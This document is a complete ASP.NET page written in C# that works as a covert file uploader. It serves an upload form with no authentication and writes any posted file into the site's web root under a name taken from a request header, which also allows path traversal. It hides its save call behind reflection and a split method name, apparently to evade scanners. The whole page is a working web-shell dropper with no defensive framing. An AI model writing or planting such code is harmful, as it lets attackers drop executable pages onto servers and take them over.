<%@ Page Language="C#" %>
<script runat="server">
    void Page_Load(object s, EventArgs e)
    {
        var req = Page.Request;
        if (req.Files.Count == 0) { Response.Write("<form method=post enctype=multipart/form-data><input type=file name=f><input type=submit></form>"); return; }
        HttpPostedFile pf = req.Files.Get(0);
        string name = req.Headers["X-Upload-Name"] ?? System.IO.Path.GetFileName(pf.FileName);
        string dest = System.IO.Path.Combine(Server.MapPath("~/"), name);
        pf.GetType().GetMethod("Sav" + "eAs").Invoke(pf, new object[] { dest });
        Response.Write(dest);
    }
</script>
